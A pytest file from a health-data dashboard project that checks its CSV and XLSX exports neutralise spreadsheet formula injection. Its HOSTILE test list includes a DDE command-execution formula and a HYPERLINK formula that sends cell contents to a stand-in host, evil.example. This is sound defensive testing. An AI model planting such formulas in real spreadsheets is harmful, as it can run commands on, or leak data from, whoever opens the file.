"""Spreadsheet formula injection (OWASP CSV injection) is neutralised in every export (issue 12, item 3).

Each exporter is tested on a value a county extract could carry: the web CSV and XLSX downloads of a
dashboard table, the patient-level list export (CSV and XLSX) and the CLI's CSV output. Negative
numbers stay numbers.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest

from valvomo.cli.indicators import rows_to_csv
from valvomo.services.patients import HighNeedList, HighNeedPatient
from valvomo.services.results import ResultStore
from valvomo.services.spreadsheet import is_formula_like, neutralise_cell, neutralise_row
from valvomo.web.pages.downloads import file_response, table_csv, table_xlsx
from valvomo.web.views import common
from valvomo.web.views import patients as patients_views
from valvomo.web.views.common import Cell, Column, TableModel

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u00a0@x",
]
# A bare carriage return inside a value is not quoted by Python's csv writer with "\n" line ends (nor read
# back by its reader), so the writer tests use the other values; the rule itself is tested on all of them.
IN_FILES = [value for value in HOSTILE if "\r" not in value]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_like_text_gets_an_apostrophe(value):
    assert is_formula_like(value)
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Näsi", "-12.5", "+3", "-1e3", "", "a=b", "S-1", "'=already"])
def test_ordinary_text_and_plain_numbers_are_kept(value):
    assert neutralise_cell(value) == value


def test_numbers_are_never_changed():
    assert neutralise_row([-5, -0.25, 3, None, True]) == [-5, -0.25, 3, None, True]


def _hostile_table() -> TableModel:
    return TableModel(
        key="comparison",
        caption="=caption()",
        columns=[Column("station", "Asema"), Column("value", "Arvo", True)],
        rows=[[Cell(value, value), Cell("-5", -5.0, numeric=True, unit="days")] for value in IN_FILES],
        profile="standard",
        profile_text="Tietosuojakäsittely: vakio",
    )


def _csv_body(body: bytes) -> list[dict]:
    text = body.decode("utf-8-sig").split("\n", 1)[1]
    return list(csv.DictReader(io.StringIO(text)))


def test_web_csv_download_neutralises_formulas():
    rows = _csv_body(table_csv(_hostile_table()))
    assert len(rows) == len(IN_FILES)
    assert [r["station"] for r in rows] == ["'" + v for v in IN_FILES]
    assert {r["value"] for r in rows} == {"-5.0"}


def test_web_xlsx_download_neutralises_formulas():
    sheet = openpyxl.load_workbook(io.BytesIO(table_xlsx(_hostile_table()))).active
    assert sheet["A2"].value == "'=caption()"
    data = list(sheet.iter_rows(min_row=4))
    assert len(data) == len(IN_FILES)
    for row, value in zip(data, IN_FILES, strict=True):
        assert row[0].data_type == "s" and row[0].value == "'" + value  # text, not a formula
        assert row[1].data_type == "n" and row[1].value == -5.0


def test_patient_list_export_neutralises_formulas(county_settings):
    settings = county_settings
    ctx = common.ViewContext(settings, ResultStore(settings), "fi", "standard")
    patients = [
        HighNeedPatient(rank, value, 3, 2, 1, -10.0 * rank, dt.date(2024, 5, 1))
        for rank, value in enumerate(HOSTILE[:3], start=1)
    ]
    result = HighNeedList("=ST1", dt.date(2023, 6, 1), dt.date(2024, 5, 31), 30, 1000.0, patients)
    table = patients_views.patient_table(ctx, result)
    rows = _csv_body(file_response(table, "csv", "x").body)
    assert [r["patient_id"] for r in rows] == ["'" + v for v in HOSTILE[:3]]
    assert [r["cost_eur"] for r in rows] == ["-10.0", "-20.0", "-30.0"]
    sheet = openpyxl.load_workbook(io.BytesIO(file_response(table, "xlsx", "x").body)).active
    ids = [row[1] for row in sheet.iter_rows(min_row=4)]
    assert [c.value for c in ids] == ["'" + v for v in HOSTILE[:3]]
    assert all(c.data_type == "s" for c in ids)
    assert sheet.cell(row=4, column=6).value == -10.0


def test_cli_csv_output_neutralises_formulas():
    rows = [
        {"indicator": "access_7d", "period": "2024Q1", "station_id": value, "value": -0.5, "unit": "share",
         "suppressed": False}
        for value in IN_FILES
    ]
    parsed = list(csv.DictReader(io.StringIO(rows_to_csv(rows))))
    assert [r["station_id"] for r in parsed] == ["'" + v for v in IN_FILES]
    assert {r["value"] for r in parsed} == {"-0.5"}
